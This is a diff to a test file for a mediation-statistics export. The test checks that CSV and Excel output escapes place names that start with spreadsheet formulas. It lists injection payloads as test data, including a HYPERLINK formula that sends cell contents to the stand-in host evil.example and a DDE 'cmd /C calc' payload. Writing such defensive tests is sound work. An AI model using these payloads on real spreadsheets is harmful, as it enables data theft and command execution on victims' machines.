@@ -1,5 +1,6 @@
 import ExcelJS from 'exceljs';
 import { insertDocs } from '../../devcloud/db/writer';
+import { areaDocsOf } from '../../server/areas/seed';
 import { monthStart } from '../../server/stats/months';
 import { dataOf, useAppCloud } from '../helpers/app-cloud';
 import { fetchBytes } from '../helpers/docx';
@@ -14,7 +15,7 @@ interface File {
 
 const from = monthStart(2025, 3);
 const to = monthStart(2025, 4);
-/** Villages as a resident could type them: each starts with what a spreadsheet reads as a formula. */
+/** Names of places as an admin could type them: each starts with what a spreadsheet reads as a formula. */
 const formulas = [
   '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
   "+1+cmd|' /C calc'!A0",
@@ -26,12 +27,32 @@ const formulas = [
 const area = '=HYPERLINK("http://x.example")';
 let admin: { openid: string };
 
+/** A town named `area` whose villages are named by the formulas (and one by `area` itself). */
+const tree = areaDocsOf(
+  [
+    { id: 'x-county', level: 'county', name: '清溪县' },
+    { id: 'x-town', parentId: 'x-county', level: 'town', name: area },
+    ...[...formulas, area].map((name, v) => ({
+      id: `x-village-${v}`,
+      parentId: 'x-town',
+      level: 'village' as const,
+      name,
+    })),
+  ],
+  from,
+);
+
 beforeAll(async () => {
-  const docs = [...formulas, area].flatMap((village, v) =>
+  insertDocs(
+    app.devcloud.database.engine,
+    'areas',
+    tree.map((a) => ({ ...a }) as Record<string, unknown>),
+  );
+  const docs = [...formulas, area].flatMap((_name, v) =>
     [0, 1].map((i) => ({
       _id: `f${v}-${i}`,
       disputeType: '邻里',
-      residentVillage: village,
+      area: tree.find((a) => a._id === `x-village-${v}`)!.ref,
       status: 'closed',
       outcome: 'resolved',
       mediatorId: 'm1',
@@ -85,7 +106,9 @@ describe('the statistics export', () => {
   });
 
   it('CSV: the area, in the title row and the report, is escaped too', async () => {
-    const file = dataOf<File>(await app.call(admin.openid, 'stats', 'exportCsv', { from, to, area }));
+    const file = dataOf<File>(
+      await app.call(admin.openid, 'stats', 'exportCsv', { from, to, areaId: 'x-town' }),
+    );
     const rows = parseCsv((await fetchBytes(file.url)).toString('utf8').slice(1));
     expect(rows[0]).toEqual(['人民调解统计', '2025-03', `'${area}`]);
     expect(rows.find((r) => r[0] === `'${area}`)?.[1]).toBe('2');
@@ -105,7 +128,7 @@ describe('the statistics export', () => {
     sheet.eachRow({ includeEmpty: true }, (row, n) => {
       rows[n - 1] = (row.values as ExcelJS.CellValue[]).slice(1);
     });
-    expect(rows[0]).toEqual(['人民调解统计', '2025-03', '全部村（社区）']);
+    expect(rows[0]).toEqual(['人民调解统计', '2025-03', '全县']);
     const total = (formulas.length + 1) * 2;
     expect(rows[3]?.[0]).toBe(total);
     expect(rows[3]?.slice(0, 4).every((n) => typeof n === 'number')).toBe(true);
